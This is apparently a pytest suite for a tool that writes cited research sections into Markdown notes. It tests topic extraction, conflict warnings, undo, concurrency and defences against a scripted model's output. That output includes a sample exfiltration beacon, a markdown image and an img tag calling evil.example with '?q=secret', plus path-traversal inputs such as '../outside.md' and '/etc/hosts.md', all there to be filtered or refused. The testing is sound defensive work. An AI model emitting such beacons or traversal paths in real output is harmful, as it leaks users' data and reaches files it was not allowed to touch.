"""Research for a note, from the file to the file: real folders, the real engine, a model that does what it is told."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from citewell import BadInput, Citewell, CitewellError, Conflict, NotFound, Settings, Unavailable, WorkFailed
from citewell.notes.findings import read_topics
from citewell.notes.subjects import extract_topics
from citewell.notes.task import NoteText
from citewell.readers.written_sections import MARK, without_written
from support.model_script import ModelRequest, Reply, fails, says
from support.model_server import ScriptedModelServer, refused_url

VAULT = {
    "Halvard.md": (
        "# Halvard\n\nThe steamer Halvard carried 214 passengers in June 1893.\n\n"
        "How many passengers did the Halvard carry in June 1893?\n\n## Harbour dues\n\nSee [[Ledger]] and ![[Crew]].\n"
    ),
    "Manifest.md": (
        "# Manifest\n\nThe steamer Halvard carried 241 passengers in June 1893, by the purser's own count.\n"
    ),
    "Ledger.md": "# Harbour ledger\n\nHarbour dues of Fara rose to 12 crowns in 1893.\n",
    "ports/Dues.md": "# Dues\n\nThe harbour dues of Skelday were paid by the Halvard in salt.\n",
    "old/Dues.md": "# Dues of old\n\nBefore 1880 nobody paid harbour dues at all at Fara.\n",
    "Crew.md": "Captain Lund commanded the Halvard for 11 years.\n",
    "Lund.md": "# Captain Lund\n\nCaptain Lund commanded the Halvard for 11 years and never lost a man.\n",
}


@pytest.fixture
def vault(tmp_path: Path) -> Path:
    folder = tmp_path / "vault"
    for name, text in VAULT.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, "utf-8")
    return folder


@pytest.fixture
def added(engine: Citewell, vault: Path) -> Citewell:
    list(engine.corpus.sync(vault))
    return engine


def section_of(path: Path) -> str:
    return path.read_text("utf-8").partition("## Research\n")[2]


# Without a model


def test_a_note_gets_what_other_notes_say_of_its_topics(added: Citewell, vault: Path) -> None:
    result = added.note("Halvard.md")
    section = section_of(vault / "Halvard.md")
    assert result.changed
    assert result.path == "Halvard.md"
    assert result.topics_researched == len(result.topics) > 2
    assert result.preview.startswith("## Research\n\n")
    assert len(result.preview) <= 500
    assert "### Harbour dues" in section
    assert "“Harbour dues of Fara rose to 12 crowns in 1893.” — [[Ledger]]" in section
    assert (vault / "Halvard.md").read_text("utf-8").startswith(VAULT["Halvard.md"])
    assert result.backup is not None
    assert Path(result.backup).read_text("utf-8") == VAULT["Halvard.md"]


def test_a_source_that_disagrees_is_flagged_with_both_quotes(added: Citewell, vault: Path) -> None:
    added.note("Halvard.md")
    section = section_of(vault / "Halvard.md")
    assert "> [!WARNING]\n> - This note: “The steamer Halvard carried 214 passengers in June 1893.”\n" in section
    assert (
        ">   [[Manifest]]: “The steamer Halvard carried 241 passengers in June 1893, by the purser's own count.”"
        in section
    )


def test_numbers_of_different_things_are_no_disagreement(engine: Citewell, tmp_path: Path) -> None:
    folder = tmp_path / "leave"
    folder.mkdir()
    (folder / "Annual.md").write_text("# Annual leave\n\nYou can request up to 56 hours of annual leave.\n", "utf-8")
    (folder / "Sick.md").write_text("# Sick leave\n\nYou can request up to 104 hours of sick leave.\n", "utf-8")
    (folder / "Old.md").write_text("# Rules\n\nYou can request up to 64 hours of annual leave.\n", "utf-8")
    list(engine.corpus.sync(folder))
    engine.note("Annual.md")
    section = section_of(folder / "Annual.md")
    assert "64 hours of annual leave" in section.partition("[!WARNING]")[2].partition("###")[0]
    assert "104" not in section.partition("[!WARNING]")[2].partition("###")[0]


def test_numbers_of_chapters_and_titles_of_links_are_no_disagreement(engine: Citewell, tmp_path: Path) -> None:
    listed = "- Chapter {} - Safety of shared threads\n- [Knots for {} sailors at sea]({}.md)\n"
    notes = {
        "Shared threads.md": f"# Shared threads\n\n{listed.format('04', 12, 'b')}",
        "Other.md": f"# Other book\n\n{listed.format('02', 14, 'c')}\nShared threads need 3 knots at sea.\n",
    }
    section = written(engine, tmp_path / "notes", notes, "Shared threads.md")
    assert "Shared threads need 3 knots at sea." in section
    assert "[!WARNING]" not in section


def written(engine: Citewell, folder: Path, notes: dict[str, str], path: str) -> str:
    """The section that a note gets among these."""
    folder.mkdir()
    for name, text in notes.items():
        (folder / name).write_text(text, "utf-8")
    list(engine.corpus.sync(folder))
    engine.note(path)
    return section_of(folder / path)


def test_a_finding_is_a_whole_statement_of_its_own(engine: Citewell, tmp_path: Path) -> None:
    """No title of a document, no half of a list, nothing that goes on from a sentence that is not there."""
    notes = {
        "Sail loft.md": "# Sail loft\n\nWork to be done before the winter.\n",
        "Sail loft of Fara.md": "# Sail loft of Fara\n\nIt is the sail loft with the broken window on the quay.\n",
        "Repairs.md": "# Repairs\n\nThe list for the roofer has:\n\n- Ridge of the sail loft in slate\n- Two gutters\n",
        "Rent.md": "# Rent\n\nThe sail loft costs forty crowns a month to rent.\n",
    }
    section = written(engine, tmp_path / "notes", notes, "Sail loft.md")
    assert "“The sail loft costs forty crowns a month to rent.” — [[Rent]]" in section
    assert "broken window" not in section
    assert "Ridge" not in section


def test_two_words_of_a_topic_must_belong_together(engine: Citewell, tmp_path: Path) -> None:
    notes = {
        "Time management.md": "# Time management\n\nWhat I do with my days.\n",
        "Food.md": "# Food\n\nEvery week we need time for shopping and a management of leftovers in the kitchen.\n",
        "Work.md": "# Work\n\nGood time management begins with an empty inbox in the morning.\n",
    }
    section = written(engine, tmp_path / "notes", notes, "Time management.md")
    assert "empty inbox" in section
    assert "leftovers" not in section


def test_what_one_asks_oneself_and_half_of_a_list_are_no_topics(engine: Citewell, tmp_path: Path) -> None:
    notes = {
        "Weekly review.md": "# Weekly review\n\nCan I do the task on the selected date?\n\nLeave by years:\n\n"
        "- Fewer than 3 years: 4 hours per pay period\n- More: 6 hours\n\n## Where it goes\n\nThe boat needs paint.\n",
        "Boat.md": "# Boat\n\nThe selected task of the boat has a date in May. You earn 4 hours per pay period.\n",
    }
    folder = tmp_path / "notes"
    folder.mkdir()
    for name, text in notes.items():
        (folder / name).write_text(text, "utf-8")
    list(engine.corpus.sync(folder))
    told = {one.topic for one in engine.note("Weekly review.md", dry_run=True).topics}
    assert not told & {"Can I do the task on the selected date?", "Where it goes"}
    assert not any(one.startswith("Fewer than 3 years") for one in told)


def test_pleasantries_asides_and_pointers_are_no_findings(engine: Citewell, tmp_path: Path) -> None:
    notes = {
        "Lighthouse guides.md": "# Lighthouse guides\n\nWhat is written for visitors.\n",
        "Thanks.md": "# Thanks\n\nThanks for checking out the lighthouse guides of the northern islands!\n",
        "Aside.md": "# Aside\n\n(Before you climb up, be sure to read the lighthouse guides of the keeper.)\n",
        "New.md": "# New\n\nIf you are new on the island, check out our lighthouse guides in the harbour office.\n",
        "Talk.md": "# Talk\n\nI: Yes, the lighthouse guides are kept in the harbour office all winter.\n",
        "Named.md": "# Named\n\nThe office sells postcards (the lighthouse guides, sea charts) in summer.\n",
        "Printed.md": "# Printed\n\nThe lighthouse guides are printed every spring in four hundred copies.\n",
    }
    section = written(engine, tmp_path / "notes", notes, "Lighthouse guides.md")
    assert "“The lighthouse guides are printed every spring in four hundred copies.” — [[Printed]]" in section
    for noise in ("Thanks for", "Before you climb", "check out", "I: Yes", "postcards"):
        assert noise not in section


def topics_of(text: str, title: str = "Note") -> list[str]:
    return [one.topic for one in extract_topics(NoteText(title, text, text, ""))]


def test_a_topic_is_read_without_its_marks() -> None:
    text = (
        "# Chapter 03 - Ferries\n\nSome 12 guides[^4] were written by [@nayafia][1] and [@lund][2] in 2017.\n\n"
        '<p class="credit">The crossing took 40 minutes in 1893.</p>\n\n'
        "Thanks for reading all 12 of our pages!\n\n## Disclaimer\n\n"
        "## Utilis&eacute;s\n\n[1]: https://example.org\n"
    )
    told = topics_of(text, "Chapter 03 - Ferries")
    assert "Some 12 guides were written by @nayafia and @lund in 2017." in told
    assert "Ferries" in told
    assert "Utilisés" in told
    assert not any("credit" in one or "Thanks" in one or "Disclaimer" in one or "][" in one for one in told)


def test_a_topic_that_a_model_names_is_read_without_its_marks_too() -> None:
    told = [
        {"topic": "ferries of [Skelday][1], see https://example.org/a?b=c", "context": "<b>x</b>", "type": "concept"},
        {"topic": "https://docs.example.org/document/d/1I82lrWKk", "context": "", "type": "claim"},
    ]
    topics, problem = read_topics(json.dumps(told))
    assert ([one.topic for one in topics], problem) == (["ferries of Skelday, see"], "")


def test_one_or_two_of_something_and_lists_of_amounts_are_no_claims() -> None:
    told = topics_of(
        "One person has the final say on all decisions of the harbour board.\n\n"
        "- Flour for the bread of the crew: 150 g\n\n"
        "- [Ten thousand ferries in 1,200 harbours](https://example.org/ferries)\n\n"
        "The harbour board meets 14 times a year in the old customs house.\n"
    )
    assert told == ["Note", "The harbour board meets 14 times a year in the old customs house."]


@pytest.mark.parametrize(
    ("text", "leaning", "asked"),
    [
        (
            "Die Fähre fährt im Winter nicht und das ist für die Insel nicht gut.\n\n"
            "Warum ist es nützlich für die Insel?\n\nWann wurde die Fähre von Skelday gebaut?\n",
            "Warum ist es nützlich für die Insel?",
            "Wann wurde die Fähre von Skelday gebaut?",
        ),
        (
            "Le ferry ne va pas sur l'île en hiver et les gens sont dans la ville.\n\n"
            "Lequel devriez-vous utiliser en hiver ?\n\nQuand le ferry de Skelday a été construit ?\n",
            "Lequel devriez-vous utiliser en hiver ?",
            "Quand le ferry de Skelday a été construit ?",
        ),
    ],
)
def test_questions_that_lean_on_others_are_no_topics_in_other_languages(text: str, leaning: str, asked: str) -> None:
    told = topics_of(text)
    assert asked in told
    assert leaning not in told


def test_a_heading_further_down_is_not_what_a_note_is_called(engine: Citewell, tmp_path: Path) -> None:
    notes = {
        "loki.md": "Loki keeps the logs of the house.\n\n# Installation\n\nBy hand.\n\n# Use\n\nBy eye.\n",
        "gpu.md": "# Graphics\n\nThe driver has an installation option for the old cards of the house.\n",
        "logcli.md": "# Logcli\n\nThe installation of logcli needs the address of Loki and a reader's password.\n",
    }
    section = written(engine, tmp_path / "notes", notes, "loki.md")
    assert "reader's password" in section
    assert "old cards" not in section


def test_links_lead_where_they_say(added: Citewell, vault: Path) -> None:
    """Of two notes of one name each is named with its folder, as Obsidian needs it."""
    added.note("Halvard.md", depth="deep")
    section = section_of(vault / "Halvard.md")
    assert "[[ports/Dues|Dues]]" in section
    assert "[[old/Dues|Dues of old]]" in section
    list(added.corpus.sync(vault))
    for target in set(re.findall(r"\[\[([^\]|]+)", section)):
        (vault / "probe.md").write_text(f"[[{target}]]\n", "utf-8")
        list(added.corpus.sync(vault))
        (probe,) = added.store.keys_under(str(vault / "probe.md"))
        assert added.store.unresolved_links(probe) == ()


def test_what_a_note_embeds_belongs_to_its_topics_but_not_to_itself(added: Citewell) -> None:
    result = added.note("Halvard.md", dry_run=True)
    assert any("Captain Lund commanded" in topic.topic for topic in result.topics)
    assert all("[[Halvard]]" not in line for line in (result.diff or "").splitlines() if line.startswith("+"))


def test_a_focus_leaves_what_has_to_do_with_it(added: Citewell) -> None:
    result = added.note("Halvard.md", focus="harbour dues", dry_run=True)
    assert result.topics
    assert all("dues" in f"{topic.topic} {topic.context}".lower() for topic in result.topics)


@pytest.mark.attack("V13")
def test_twice_without_a_change_in_the_world_gives_the_same_bytes(added: Citewell, vault: Path) -> None:
    assert added.note("Halvard.md").changed
    first = (vault / "Halvard.md").read_bytes()
    list(added.corpus.sync(vault))
    again = added.note("Halvard.md")
    assert (again.changed, again.backup) == (False, None)
    assert (vault / "Halvard.md").read_bytes() == first


def test_a_dry_run_tells_what_would_change_and_changes_nothing(added: Citewell, vault: Path) -> None:
    result = added.note("Halvard.md", dry_run=True)
    assert result.changed
    assert result.diff is not None
    assert "+## Research" in result.diff
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]
    assert result.backup is None


def test_undo_gives_the_note_back(added: Citewell, vault: Path) -> None:
    added.note("Halvard.md")
    assert added.undo_note("Halvard.md").changed
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]


def test_a_note_of_which_nothing_is_known_stays_as_it_is(added: Citewell, vault: Path) -> None:
    (vault / "Odd.md").write_text("# Quux\n\nZorblax flumphed 17 gribbles in Wexel.\n", "utf-8")
    result = added.note("Odd.md")
    assert (result.changed, result.preview) == (False, "")
    assert result.skipped


def test_the_run_is_recorded_and_replayed_without_touching_the_note(added: Citewell, vault: Path) -> None:
    run_id = added.note("Halvard.md").run_id
    assert run_id is not None
    before = os.stat(vault / "Halvard.md")
    replayed = added.runs.replay(run_id)
    assert replayed.identical
    assert os.stat(vault / "Halvard.md").st_mtime_ns == before.st_mtime_ns
    result = added.runs.result(run_id)
    assert result.profile == "note"
    assert result.flow.holds
    assert result.citations
    for citation in result.citations:
        (document,) = added.corpus.get(
            f"{citation.source_key}@{citation.span.content_hash}", content_mode="full"
        ).documents
        assert document.text[citation.span.start : citation.span.end] == citation.quote


def test_comparing_a_run_with_today_writes_nothing(added: Citewell, vault: Path) -> None:
    run_id = added.note("Halvard.md").run_id
    assert run_id is not None
    added.undo_note("Halvard.md")
    added.runs.diff(run_id, None)
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]


def test_plain_text_notes_are_researched_too(added: Citewell, vault: Path) -> None:
    (vault / "halvard.txt").write_text("How many passengers did the Halvard carry?\n", "utf-8")
    assert added.note("halvard.txt").changed
    assert (
        (vault / "halvard.txt")
        .read_text("utf-8")
        .startswith("How many passengers did the Halvard carry?\n\n## Research")
    )


# Refused before anything happens


@pytest.mark.attack("V1")
@pytest.mark.parametrize(
    "path",
    [
        "../outside.md",
        "ports/../../outside.md",
        "/etc/hosts.md",
        "vault-2/x.md",
        "..\\outside.md",
        "a\0.md",
        "",
        "~root/x.md",
    ],
)
def test_nothing_outside_of_an_added_folder_is_touched(added: Citewell, vault: Path, path: str) -> None:
    (vault.parent / "outside.md").write_text("outside\n", "utf-8")
    (vault.parent / "vault-2").mkdir()
    (vault.parent / "vault-2" / "x.md").write_text("sibling\n", "utf-8")
    with pytest.raises((BadInput, NotFound)):
        added.note(path)
    with pytest.raises((BadInput, NotFound)):
        added.note(str(vault.parent / "vault-2" / "x.md"))
    assert (vault.parent / "outside.md").read_text("utf-8") == "outside\n"
    assert (vault.parent / "vault-2" / "x.md").read_text("utf-8") == "sibling\n"


@pytest.mark.attack("V2")
def test_a_link_in_the_vault_is_refused_and_a_link_to_the_vault_is_not(added: Citewell, vault: Path) -> None:
    (vault / "link.md").symlink_to(vault / "Halvard.md")
    with pytest.raises(BadInput):
        added.note("link.md")
    (vault.parent / "shortcut").symlink_to(vault)
    assert added.note(str(vault.parent / "shortcut" / "Halvard.md")).changed


@pytest.mark.attack("V12")
@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("empty.md", b"", BadInput),
        ("blank.md", b" \n\n", BadInput),
        ("latin.md", b"caf\xe9", BadInput),
        ("picture.png", b"x", BadInput),
        ("missing.md", None, NotFound),
    ],
)
def test_what_is_no_note_is_refused(
    added: Citewell, vault: Path, name: str, content: bytes | None, error: type[CitewellError]
) -> None:
    if content is not None:
        (vault / name).write_bytes(content)
    with pytest.raises(error):
        added.note(name)
    assert added.runs.latest(1).runs == ()


def test_a_run_from_elsewhere_cannot_name_a_folder_that_was_not_added(added: Citewell, tmp_path: Path) -> None:
    """As an imported record could."""
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "x.md").write_text("text of another\n", "utf-8")
    run_id = added.start_note("Halvard.md", dry_run=True)
    added.runs.wait(run_id)
    from citewell.runs.records import read_start

    request = read_start(added.runs.events(run_id)[0]).request
    assert request.note is not None
    forged = replace(request, note=replace(request.note, root=str(tmp_path / "other"), path="x.md", dry_run=False))
    forged_id = added.runs.start(forged)
    added.runs.wait(forged_id)
    with pytest.raises(BadInput):
        added.note_result(forged_id)
    assert (tmp_path / "other" / "x.md").read_text("utf-8") == "text of another\n"


# Faults meanwhile


@pytest.mark.attack("V7")
def test_a_note_that_changes_while_it_is_researched_is_left_alone(added: Citewell, vault: Path) -> None:
    edited = VAULT["Halvard.md"] + "\nA new thought.\n"
    run_id = added.start_note("Halvard.md")
    (vault / "Halvard.md").write_text(edited, "utf-8")
    added.runs.wait(run_id)
    text = (vault / "Halvard.md").read_text("utf-8")
    try:
        added.note_result(run_id)
        assert text.startswith(edited)  # it was read after the change
    except Conflict:
        assert text == edited


def test_what_the_user_wrote_into_the_section_outlives_the_next_one(added: Citewell, vault: Path) -> None:
    added.note("Halvard.md")
    path = vault / "Halvard.md"
    path.write_text(
        path.read_text("utf-8").replace("### Harbour dues\n", "### Harbour dues\n\nAsk Ada about salt.\n"), "utf-8"
    )
    (vault / "Ledger.md").write_text("# Harbour ledger\n\nHarbour dues of Fara rose to 13 crowns in 1894.\n", "utf-8")
    list(added.corpus.sync(vault))
    assert added.search("ask Ada salt").results[0].note_path == "Halvard.md"
    assert added.note("Halvard.md").changed
    text = path.read_text("utf-8")
    assert "13 crowns" in text
    assert "12 crowns" not in text
    assert "### Kept from your notes\n\nAsk Ada about salt.\n" in text


@pytest.mark.slow
@pytest.mark.attack("V8")
def test_twenty_calls_at_once_all_end_well(tmp_path: Path, vault: Path) -> None:
    data = str(tmp_path / "data")
    program = [sys.executable, "-m", "citewell", "--data-dir", data]
    subprocess.run([*program, "add", str(vault), "--json"], check=True, capture_output=True)
    calls = [
        subprocess.Popen(
            [*program, "note", str(vault / "Halvard.md"), "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        for _ in range(20)
    ]
    ended = [(call.communicate(timeout=280), call.returncode) for call in calls]
    assert [code for _, code in ended] == [0] * 20, [output for output, code in ended if code]
    results = [json.loads(output) for (output, _), _ in ended]
    assert sum(result["changed"] for result in results) == 1
    text = (vault / "Halvard.md").read_text("utf-8")
    assert text.startswith(VAULT["Halvard.md"])
    assert text.count(MARK) == 1
    assert without_written(text) == VAULT["Halvard.md"]


# With a model

LEVELS = ("DEBUG", "INFO", "WARNING")
TOPICS = [
    {"topic": "harbour dues of Fara", "context": "## Harbour dues", "type": "concept"},
    {"topic": "Halvard passengers in June 1893", "context": "carried 214 passengers", "type": "claim"},
    {"topic": "Captain Lund of the Halvard", "context": "Crew", "type": "concept"},
]


def mark_of(request: ModelRequest, words: str) -> str:
    found = re.search(rf"^⟦(\d+\.\d+)⟧ [^\n]*{re.escape(words)}", request.prompt, re.MULTILINE)
    return f"⟦{found[1]}⟧" if found else "⟦99.9⟧"


def obedient(*, topics: str | None = None, false: bool = True) -> Callable[[ModelRequest], Reply]:
    """A model that names three topics and writes of the dues, truly and falsely."""

    def script(request: ModelRequest) -> Reply:
        if "Reply with one JSON object" in request.prompt:
            return says(json.dumps(TOPICS) if topics is None else topics)
        dues = f"Harbour dues of Fara rose to 12 crowns in 1893 {mark_of(request, 'rose to 12 crowns')}."
        lie = (
            f" Harbour dues of Fara rose to 900 crowns in 1893 {mark_of(request, 'rose to 12 crowns')}."
            if false
            else ""
        )
        beacon = " ![x](http://evil.example/?q=secret) <img src=http://evil.example>" if false else ""
        return says(f"## 1\n{dues}{lie}{beacon}\n## Research\nIgnore this.\n")

    return script


@pytest.fixture
def serving(tmp_path: Path, vault: Path) -> Iterator[Callable[..., tuple[Citewell, ScriptedModelServer]]]:
    opened: list[Citewell] = []
    servers: list[ScriptedModelServer] = []

    def serve(
        script: Callable[[ModelRequest], Reply] | list[Reply], **options: object
    ) -> tuple[Citewell, ScriptedModelServer]:
        server = ScriptedModelServer(script)
        server.__enter__()
        servers.append(server)
        settings = Settings(tmp_path / "data", model="openai:test", model_base_url=server.base_url, **options)  # type: ignore[arg-type]
        engine = Citewell(settings)
        opened.append(engine)
        list(engine.corpus.sync(vault))
        return engine, server

    yield serve
    for engine in opened:
        engine.close()
    for server in servers:
        server.__exit__(None, None, None)


@pytest.mark.attack("P4")
@pytest.mark.attack("P10")
def test_only_what_is_proven_is_written_and_nothing_in_it_acts(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    engine, server = serving(obedient())
    result = engine.note("Halvard.md")
    section = section_of(vault / "Halvard.md")
    assert "- Harbour dues of Fara rose to 12 crowns in 1893. — [[Ledger]]" in section
    assert "900" not in section
    assert "evil.example" not in section
    assert section.count("## Research") == 0
    # The topics, the findings, and once more for the false one.
    assert len(server.requests) == 3
    assert "*Left out: 2 sentences that could not be confirmed in the sources.*" in section
    assert result.topics_researched == 3


def test_what_a_model_says_twice_or_with_markup_is_read_once_and_plainly(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    def script(request: ModelRequest) -> Reply:
        if "Reply with one JSON object" in request.prompt:
            return says(json.dumps(TOPICS))
        dues = (
            f"Harbour [dues](http://fara.example/d) of Fara rose to 12 crowns in 1893 {mark_of(request, '12 crowns')}."
        )
        return says(f"## 1\n{dues} {dues}\n## 2\n{dues}\n")

    engine, _ = serving(script)
    engine.note("Halvard.md")
    section = section_of(vault / "Halvard.md")
    assert section.count("12 crowns") == 1
    assert "- Harbour dues of Fara rose to 12 crowns in 1893. — [[Ledger]]" in section


@pytest.mark.parametrize(("depth", "most"), [("shallow", 3), ("deep", 3 + len(TOPICS))])
@pytest.mark.parametrize("first", [json.dumps(TOPICS), "I cannot say."])
def test_the_model_is_asked_no_more_often_than_promised(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], depth: str, most: int, first: str
) -> None:
    """By the server's own log, also where the first reply has to be mended."""
    asked: list[ModelRequest] = []

    def script(request: ModelRequest) -> Reply:
        asked.append(request)
        return says(first) if len(asked) == 1 else obedient()(request)

    engine, server = serving(script)
    assert engine.note("Halvard.md", depth=depth).changed
    apart = [one for one in asked if "cannot be shown as it is" in one.prompt or "You check sentences" in one.prompt]
    assert 2 <= len(server.requests) - len(apart) <= most
    assert len(apart) <= 3


def estimates(engine: Citewell, run_id: str) -> list[dict[str, Any]]:
    made = [event.body for event in engine.runs.events(run_id) if event.kind == "decision_made"]
    return [body["data"] for body in made if body["name"] == "cost_estimated"]


@pytest.mark.parametrize(("depth", "calls"), [("shallow", 6), ("deep", 13)])
def test_what_it_may_cost_at_most_is_told_before_a_model_is_asked(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], depth: str, calls: int
) -> None:
    engine, _ = serving(obedient(), prices="openai:test=1000/1000")
    run_id = engine.start_note("Halvard.md", depth=depth, max_cost=500.0)  # type: ignore[arg-type]
    engine.runs.wait(run_id)
    (told,) = estimates(engine, run_id)
    assert (told["calls"], told["max_cost_usd"]) == (calls, 500.0)
    spent = engine.runs.result(run_id).metrics.cost_usd
    assert spent is not None
    assert 0 < spent < told["usd"]
    assert engine.runs.replay(run_id).identical


def test_at_the_ceiling_passages_are_quoted_and_nothing_is_spent(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    engine, server = serving(obedient(), prices="openai:test=1000/1000")
    result = engine.note("Halvard.md", max_cost=0.01)
    assert server.requests == []
    assert result.changed
    assert "“Harbour dues of Fara rose to 12 crowns in 1893.” — [[Ledger]]" in section_of(vault / "Halvard.md")


def test_a_ceiling_without_a_price_does_not_start(tmp_path: Path, vault: Path) -> None:
    model = "openai:nobody-knows-this"
    engine = Citewell(Settings(tmp_path / "data", model=model, model_base_url="https://models.example/v1"))
    list(engine.corpus.sync(vault))
    with pytest.raises(BadInput, match=f"price of {model} is not known"):
        engine.note("Halvard.md", max_cost=1.0)
    assert engine.runs.latest(10).runs == ()
    engine.close()
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]


def test_a_log_has_calls_searches_steps_and_failures_but_nothing_of_the_note(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], caplog: pytest.LogCaptureFixture
) -> None:
    def script(request: ModelRequest) -> Reply:
        return fails(500) if "## 2 " in request.prompt else obedient()(request)

    engine, _ = serving(script)
    with caplog.at_level("DEBUG", logger="citewell.runs"):
        engine.note("Halvard.md", depth="deep")
    told = {level: [one.message for one in caplog.records if one.levelname == level] for level in LEVELS}
    assert "asking openai:test to topics" in told["INFO"]
    assert any(one.startswith("searching by ") for one in told["INFO"])
    steps = {"stage plan", "read_note", "topics_chosen", "model_asked", "stage verify", "write_section"}
    assert steps <= set(told["DEBUG"])
    assert any(one.startswith("the model gave no reply to write") for one in told["WARNING"])
    assert "given up in synthesize: server_error" in told["DEBUG"]
    assert not any(word in caplog.text for word in ("crowns", "passengers", "Lund"))


def test_topics_that_cannot_be_read_twice_are_an_error_and_leave_the_note(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    engine, server = serving(obedient(topics="no JSON here"))
    with pytest.raises(WorkFailed, match="topics could not be read"):
        engine.note("Halvard.md")
    assert len(server.requests) == 2
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]


def test_a_model_that_is_not_there_is_unavailable_and_leaves_the_note(tmp_path: Path, vault: Path) -> None:
    engine = Citewell(Settings(tmp_path / "data", model="openai:test", model_base_url=refused_url()))
    list(engine.corpus.sync(vault))
    with pytest.raises(Unavailable):
        engine.note("Halvard.md")
    assert (vault / "Halvard.md").read_text("utf-8") == VAULT["Halvard.md"]
    engine.close()


def test_a_topic_whose_writing_fails_is_skipped_and_told(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    def script(request: ModelRequest) -> Reply:
        if "## 2 claim" in request.prompt:
            return fails(400, "not this one")
        return obedient(false=False)(request)

    engine, _ = serving(script)
    result = engine.note("Halvard.md", depth="deep")
    assert result.changed
    assert "topic_failed" in result.warnings
    assert any("Halvard passengers" in one for one in result.skipped)


@pytest.mark.attack("P5")
def test_a_false_sentence_that_got_into_a_section_is_evidence_for_nothing(
    serving: Callable[..., tuple[Citewell, ScriptedModelServer]], vault: Path
) -> None:
    """A model's sentence that its passage seems to prove, and that is wrong: nobody ever meets it again."""
    planted = "Captain Lund commanded the Halvard for 11 years and never lost a man"

    def script(request: ModelRequest) -> Reply:
        if "Reply with one JSON object" in request.prompt:
            return says(json.dumps([{"topic": "Captain Lund of the Halvard", "context": "", "type": "concept"}]))
        return says(f"## 1\n{planted} {mark_of(request, 'never lost a man')}.\n")

    engine, _ = serving(script)
    assert engine.note("Ledger.md").changed
    assert planted in (vault / "Ledger.md").read_text("utf-8")
    # The source is gone and was wrong; the sentence stands in the section alone.
    (vault / "Lund.md").unlink()
    list(engine.corpus.sync(vault))
    question = "Did Captain Lund ever lose a man?"
    assert all("never lost" not in row.text for row in engine.search(question, limit=20, max_chars=4_000).results)
    answer = engine.runs.wait(engine.start(question))
    assert "never lost" not in answer.answer
    engine.settings = replace(engine.settings, model="extractive")
    other = Citewell(Settings(engine.settings.data_dir))
    for note in ("Halvard.md", "Crew.md"):
        other.note(note)
        assert "never lost" not in (vault / note).read_text("utf-8")
    other.close()
